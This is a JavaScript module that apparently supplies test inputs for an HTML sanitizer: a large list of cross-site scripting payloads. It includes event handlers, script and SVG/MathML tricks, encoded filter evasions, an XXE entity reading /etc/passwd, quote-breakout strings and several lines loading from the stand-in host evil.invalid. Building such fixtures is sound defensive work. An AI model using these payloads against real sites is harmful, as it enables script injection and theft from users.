// Texts that are markup: handlers, scripts, vector graphics, formulas, and ways out of a quoted place.
// All of them call `canary`, which the page defines and which nobody else calls.
const call = 'canary()';

/** An element that calls when it begins, fails or is touched. */
const handlers = [
  ['img', 'src=x', ['error', 'load']],
  ['video', 'src=x', ['error', 'loadstart']],
  ['audio', 'src=x', ['error', 'canplay']],
  ['object', 'data=x', ['error', 'load']],
  ['input', 'autofocus', ['focus', 'blur', 'beforeinput']],
  ['select', 'autofocus', ['focus', 'change']],
  ['textarea', 'autofocus', ['focus', 'select']],
  ['button', 'popovertarget=p', ['click', 'pointerenter']],
  ['details', 'open', ['toggle', 'beforetoggle']],
  ['div', 'tabindex=0', ['animationstart', 'transitionend', 'pointerover', 'wheel', 'paste']],
  ['body', '', ['load', 'pageshow', 'hashchange', 'popstate', 'resize', 'scroll']],
  ['iframe', 'src=about:blank', ['load']],
  ['marquee', 'loop=1', ['start', 'finish']],
  ['dialog', 'open', ['close', 'cancel']],
  ['style', '', ['load', 'error']],
  ['link', 'rel=stylesheet href=x', ['error', 'load']],
];

const withHandlers = () =>
  handlers.flatMap(([tag, more, events]) =>
    events.flatMap((event) => [
      `<${tag} ${more} on${event}="${call}">`,
      `<${tag.toUpperCase()}/${more.replaceAll(' ', '/')}/ON${event.toUpperCase()}=${call}//`,
    ]),
  );

const scripts = [
  `<script>${call}</script>`,
  `<script type=module>${call}</script>`,
  `<script src=//evil.invalid/a.js></script>`,
  `<script src="data:text/javascript,${call}"></script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script\n>${call}<\n/script>`,
  `<script>/*`,
  `*/${call}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<template><script>${call}</script></template>`,
  `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
  `<base href=//evil.invalid/>`,
  `<meta http-equiv=refresh content="0;url=//evil.invalid/">`,
  `<meta http-equiv=Content-Security-Policy content="default-src *">`,
  `<form action=//evil.invalid/><input name=a value=b><button>send</button></form>`,
  `<a href=javascript:${call}>here</a>`,
  `<a ping=//evil.invalid/ href=/>here</a>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<embed src=//evil.invalid/a.swf>`,
  `<frameset onload=${call}>`,
  `<portal src=//evil.invalid/>`,
  `<fencedframe></fencedframe>`,
  `<plaintext>`,
  `<xmp><img src=x onerror=${call}></xmp>`,
  `<creator-compass creator-feed=//evil.invalid/a.json></creator-compass>`,
  `<cc-sheet></cc-sheet>`,
  `<?xml version="1.0"?><?xml-stylesheet href="javascript:${call}"?>`,
  `<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;`,
  `<![CDATA[<img src=x onerror=${call}>]]>`,
  `&lt;img src=x onerror=${call}&gt;`,
  `&#60;img src=x onerror=${call}&#62;`,
  `\\u003cimg src=x onerror=${call}\\u003e`,
  `%3Cimg%20src=x%20onerror=${call}%3E`,
  `\uff1cimg src=x onerror=${call}\uff1e`,
  `<\u0000img src=x onerror=${call}>`,
  `<img src=x onerror\u000b=${call}>`,
  `<img src='x' onerror=\`${call}\`>`,
];

const graphics = [
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script href=//evil.invalid/a.js></script></svg>`,
  `<svg><a xlink:href=javascript:${call}><text y=20>here</text></a></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${call} begin=0s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}/>#x"/></svg>`,
  `<svg><use href=//evil.invalid/a.svg#x /></svg>`,
  `<svg><image href=//evil.invalid/a.png /></svg>`,
  `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
  `<svg><style>@import "//evil.invalid/a.css";</style></svg>`,
  `<svg><filter><feImage href=//evil.invalid/a.png /></filter></svg>`,
  `<svg><desc><![CDATA[</desc><script>${call}</script>]]></svg>`,
  `<svg><title><img src=x onerror=${call}></title></svg>`,
  `<svg><p><style><g title="</style><img src=x onerror=${call}>">`,
  `<svg viewBox="0 0 1 1" xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>`,
  `<svg><discard onbegin=${call} /></svg>`,
  `<svg><handler type="application/ecmascript">${call}</handler></svg>`,
];

const formulas = [
  `<math href=javascript:${call}>here</math>`,
  `<math><mtext><img src=x onerror=${call}></mtext></math>`,
  `<math><annotation-xml encoding=text/html><img src=x onerror=${call}></annotation-xml></math>`,
  `<math><mglyph><style></math><img src=x onerror=${call}>`,
  `<math><mi xlink:href="data:text/html,<script>${call}</script>">x</mi></math>`,
  `<math><maction actiontype=statusline xlink:href=javascript:${call}>x</maction></math>`,
  `<math><semantics><annotation src=//evil.invalid/></annotation></semantics></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
];

// what might end the place in which a text stands, and what would follow then
const ends = ['"', "'", '`', '>', '/>', '-->', '--!>', '"/>', '</bdi>', '</h3>', '</style>'];
const moreEnds = ['</title>', '</textarea>', '</template>', '</script>', '</svg>', ']]>', '\n\n'];
const after = [
  `<img src=x onerror=${call}>`,
  ` autofocus onfocus=${call} x=`,
  `<script>${call}</script>`,
];

const waysOut = () => [...ends, ...moreEnds].flatMap((end) => after.map((more) => end + more));

export const markup = {
  handlers: withHandlers(),
  scripts,
  graphics,
  formulas,
  waysOut: waysOut(),
};
